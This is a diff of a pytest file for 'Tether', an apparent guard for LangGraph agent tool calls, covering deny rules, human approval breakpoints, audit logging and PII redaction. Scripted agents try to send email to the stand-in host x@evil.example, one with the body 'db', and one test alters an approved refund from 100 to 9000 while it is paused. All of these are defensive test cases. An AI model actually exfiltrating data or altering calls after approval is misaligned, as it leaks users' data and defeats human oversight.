@@ -5,7 +5,7 @@ from __future__ import annotations
 import asyncio
 
 import pytest
-from langchain_core.messages import HumanMessage
+from langchain_core.messages import AIMessage, HumanMessage
 from langgraph.checkpoint.memory import InMemorySaver
 from langgraph.types import Command
 
@@ -18,52 +18,18 @@ from .graphs import state_graph
 THREAD = {"configurable": {"thread_id": "t-1"}}
 
 
-def test_denied_call_never_runs_and_the_model_reads_why(guard: Guard, tools, ran) -> None:
-    model = ScriptedModel(
-        script=[calls(("lookup", {"ticket": "42"}, "c1"), ("send_email", {"to": "x@evil.example", "body": "db"}, "c2"))]
+def two_refunds_and_more(*more: tuple[str, dict, str]) -> AIMessage:
+    """Two refunds that need approval (r1, r2) around a lookup that does not (l1)."""
+    return calls(
+        ("refund", {"order": "A", "amount": 100}, "r1"),
+        ("lookup", {"ticket": "1"}, "l1"),
+        ("refund", {"order": "B", "amount": 200}, "r2"),
+        *more,
     )
-    graph = state_graph(model, tools, Tether(guard, agent="support-bot"))
-    graph.invoke({"messages": [HumanMessage("help")]}, THREAD)
-    assert ran.count("lookup") == 1
-    assert ran.count("send_email") == 0
-    replies = model.tool_replies()
-    assert "ticket 42" in replies["c1"]
-    assert replies["c2"].startswith("Tether denied the call to 'send_email'")
-    assert "rule: agents.support-bot.tools.send_email" in replies["c2"]
-    assert [k for k in kinds(guard.store, "t-1") if k[0] == "tool.decision"] == [
-        ("tool.decision", "lookup", "allow"),
-        ("tool.decision", "send_email", "deny"),
-    ]
-
-
-def test_async_run_is_enforced_too(guard: Guard, tools, ran) -> None:
-    model = ScriptedModel(script=[calls(("send_email", {"to": "x@evil.example", "body": "db"}, "c1"))])
-    graph = state_graph(model, tools, Tether(guard, agent="support-bot"))
-    asyncio.run(graph.ainvoke({"messages": [HumanMessage("help")]}, THREAD))
-    assert ran.count("send_email") == 0
-    assert "Tether denied" in model.tool_replies()["c1"]
-
-
-def test_tool_output_is_recorded_after_the_call(guard: Guard, tools, ran) -> None:
-    model = ScriptedModel(script=[calls(("lookup", {"ticket": "7"}, "c1"))])
-    state_graph(model, tools, Tether(guard, agent="support-bot")).invoke({"messages": [HumanMessage("x")]}, THREAD)
-    results = [e for e in guard.store.session_events("t-1") if e.kind == "tool.result"]
-    assert len(results) == 1
-    assert "pii" in results[0].details["labels"]  # the e-mail address in the output was seen
-    assert "jane@example.com" not in results[0].data  # and stored redacted
 
 
 def test_parallel_breakpoints_pause_together_and_resume_with_one_answer_each(guard: Guard, tools, ran) -> None:
-    model = ScriptedModel(
-        script=[
-            calls(
-                ("refund", {"order": "A", "amount": 100}, "r1"),
-                ("lookup", {"ticket": "1"}, "l1"),
-                ("refund", {"order": "B", "amount": 200}, "r2"),
-                ("send_email", {"to": "x@evil.example", "body": "hi"}, "e1"),
-            )
-        ]
-    )
+    model = ScriptedModel(script=[two_refunds_and_more(("send_email", {"to": "x@evil.example", "body": "hi"}, "e1"))])
     graph = state_graph(model, tools, Tether(guard, agent="support-bot"), InMemorySaver())
     result = graph.invoke({"messages": [HumanMessage("refunds")]}, THREAD)
     interrupts = result["__interrupt__"]
@@ -170,26 +136,33 @@ def test_unreadable_resume_value_denies(guard: Guard, tools, ran) -> None:
     assert "could not be read" in model.tool_replies()["r1"]
 
 
-def test_tether_failing_stops_the_call(guard: Guard, tools, ran, monkeypatch) -> None:
-    def broken(*args: object, **kwargs: object) -> None:
-        raise RuntimeError("store unreachable")
+def refuse_decisions(store) -> None:
+    """The database refuses to record tool decisions (as a full disk or a lost connection would)."""
+    import sqlalchemy as sa
 
-    monkeypatch.setattr(guard, "session", broken)
+    with store.engine.begin() as connection:
+        connection.execute(
+            sa.text(
+                "CREATE TRIGGER refuse_decisions BEFORE INSERT ON tether_audit_events "
+                "WHEN NEW.kind = 'tool.decision' BEGIN SELECT RAISE(ABORT, 'disk I/O error'); END"
+            )
+        )
+
+
+def test_a_store_that_refuses_decisions_stops_the_call(guard: Guard, tools, ran) -> None:
+    refuse_decisions(guard.store)
     model = ScriptedModel(script=[calls(("lookup", {"ticket": "1"}, "c1"))])
-    with pytest.raises(RuntimeError, match="store unreachable"):
-        state_graph(model, tools, Tether(guard, agent="support-bot")).invoke({"messages": [HumanMessage("x")]}, THREAD)
-    assert ran.calls == []
-
-
-def test_monitor_mode_records_but_lets_calls_run(store, tools, ran) -> None:
-    from .conftest import POLICY
-
-    guard = Guard(POLICY, store=store, mode="monitor")
-    model = ScriptedModel(script=[calls(("send_email", {"to": "x@evil.example", "body": "b"}, "e1"))])
     state_graph(model, tools, Tether(guard, agent="support-bot")).invoke({"messages": [HumanMessage("x")]}, THREAD)
-    assert ran.count("send_email") == 1
-    [decision] = [e for e in store.session_events("t-1") if e.kind == "tool.decision"]
-    assert decision.verdict == "deny" and decision.details["enforcement"] == "monitored"
+    assert ran.calls == []
+    assert "audit store unavailable" in model.tool_replies()["c1"]
+    assert not [e for e in guard.store.session_events("t-1") if e.kind in ("tool.decision", "tool.result")]
+
+
+def test_a_store_that_refuses_decisions_stops_a_direct_call(guard: Guard, tools, ran) -> None:
+    refuse_decisions(guard.store)
+    lookup = Tether(guard, agent="support-bot", session="direct").guard_tool(tools[0])
+    assert "audit store unavailable" in lookup.invoke({"ticket": "1"})
+    assert ran.calls == []
 
 
 def test_agent_and_session_come_from_the_graph(store, tools, ran) -> None:
@@ -216,15 +189,7 @@ def test_agent_and_session_come_from_the_graph(store, tools, ran) -> None:
 
 
 def test_async_parallel_breakpoints_pause_together(guard: Guard, tools, ran) -> None:
-    model = ScriptedModel(
-        script=[
-            calls(
-                ("refund", {"order": "A", "amount": 100}, "r1"),
-                ("lookup", {"ticket": "1"}, "l1"),
-                ("refund", {"order": "B", "amount": 200}, "r2"),
-            )
-        ]
-    )
+    model = ScriptedModel(script=[two_refunds_and_more()])
     graph = state_graph(model, tools, Tether(guard, agent="support-bot"), InMemorySaver())
 
     async def run() -> None:
@@ -238,3 +203,83 @@ def test_async_parallel_breakpoints_pause_together(guard: Guard, tools, ran) -> 
     assert ran.calls.count(("refund", {"order": "B", "amount": 200})) == 1
     assert ran.count("refund") == 1 and ran.count("lookup") == 1
     assert set(model.tool_replies()) == {"r1", "r2", "l1"}
+
+
+def test_a_call_changed_while_paused_is_decided_again(guard: Guard, tools, ran) -> None:
+    """Approving a refund of 100, then changing the pending call to 9000 with update_state, must
+    not run 9000 under the approval given for 100."""
+    model = ScriptedModel(script=[calls(("refund", {"order": "A", "amount": 100}, "r1"))])
+    graph = state_graph(model, tools, Tether(guard, agent="support-bot"), InMemorySaver())
+    paused = graph.invoke({"messages": [HumanMessage("refund")]}, THREAD)
+    assert paused["__interrupt__"][0].value["requests"][0]["args"]["amount"] == 100
+
+    proposing = graph.get_state(THREAD).values["messages"][-1]
+    changed = {**proposing.tool_calls[0], "args": {"order": "A", "amount": 9000}}
+    graph.update_state(THREAD, {"messages": [proposing.model_copy(update={"tool_calls": [changed]})]}, as_node="agent")
+    graph.invoke(Command(resume="approve"), THREAD)
+
+    assert ran.calls == []  # 9000 is over the grant's amount <= 500: refused, not run as approved
+    refunds = [
+        (e.verdict, e.details["args"]["amount"]) for e in guard.store.session_events("t-1") if e.tool == "refund"
+    ]
+    assert ("deny", 9000) in refunds
+    assert "Tether denied the call to 'refund'" in model.tool_replies()["r1"]
+
+
+def test_a_tool_error_turned_into_a_message_is_audited_as_an_error(guard: Guard, ran) -> None:
+    from langchain_core.tools import tool
+    from langgraph.prebuilt import ToolNode
+
+    @tool
+    def lookup(ticket: str) -> str:
+        """Read a ticket."""
+        ran.calls.append(("lookup", {"ticket": ticket}))
+        raise RuntimeError("the ticket backend is down")
+
+    t = Tether(guard, agent="support-bot")
+    node = ToolNode([lookup], handle_tool_errors=True, wrap_tool_call=t.wrap_tool_call)
+    model = ScriptedModel(script=[calls(("lookup", {"ticket": "1"}, "c1"))])
+    from langgraph.graph import START, MessagesState, StateGraph
+    from langgraph.prebuilt import tools_condition
+
+    builder = StateGraph(MessagesState)
+    builder.add_node("agent", lambda state: {"messages": [model.invoke(state["messages"])]})
+    builder.add_node("tools", node)
+    builder.add_edge(START, "agent")
+    builder.add_conditional_edges("agent", tools_condition)
+    builder.add_edge("tools", "agent")
+    builder.compile().invoke({"messages": [HumanMessage("x")]}, THREAD)
+    assert "the ticket backend is down" in model.tool_replies()["c1"]  # the model reads the error
+    [result] = [e for e in guard.store.session_events("t-1") if e.kind == "tool.result"]
+    assert "the ticket backend is down" in str(result.details["error"])
+
+
+def test_user_and_tenant_are_given_or_taken_from_the_config(guard: Guard, tools, ran) -> None:
+    model = ScriptedModel(script=[calls(("lookup", {"ticket": "1"}, "c1"))])
+    state_graph(model, tools, Tether(guard, agent="support-bot", user="alice", tenant="acme")).invoke(
+        {"messages": [HumanMessage("x")]}, THREAD
+    )
+    [decision] = [e for e in guard.store.session_events("t-1") if e.kind == "tool.decision"]
+    assert decision.tenant == "acme" and decision.user_id is not None
+
+    model = ScriptedModel(script=[calls(("lookup", {"ticket": "2"}, "c2"))])
+    config = {"configurable": {"thread_id": "t-2", "user_id": "bob", "tenant_id": "globex"}}
+    state_graph(model, tools, Tether(guard, agent="support-bot")).invoke({"messages": [HumanMessage("x")]}, config)
+    [decision] = [e for e in guard.store.session_events("t-2") if e.kind == "tool.decision"]
+    assert decision.tenant == "globex" and decision.user_id is not None
+
+
+def test_sessions_without_a_tenant_are_isolated_by_default(store, tools, ran) -> None:
+    """The policy's default isolation: a value one conversation read does not surface in
+    another unchecked, though neither names a tenant."""
+    from .conftest import POLICY
+
+    guard = Guard({**POLICY, "protections": {"cross_session": "redact"}}, store=store)
+    t = Tether(guard, agent="support-bot")
+    first = ScriptedModel(script=[calls(("lookup", {"ticket": "1"}, "c1"))])
+    state_graph(first, tools, t).invoke({"messages": [HumanMessage("x")]}, {"configurable": {"thread_id": "a"}})
+    second = ScriptedModel(script=[])
+    state_graph(second, tools, t).invoke(
+        {"messages": [HumanMessage("what did jane@example.com want?")]}, {"configurable": {"thread_id": "b"}}
+    )
+    assert "jane@example.com" not in " ".join(str(m.content) for m in second.seen[0])
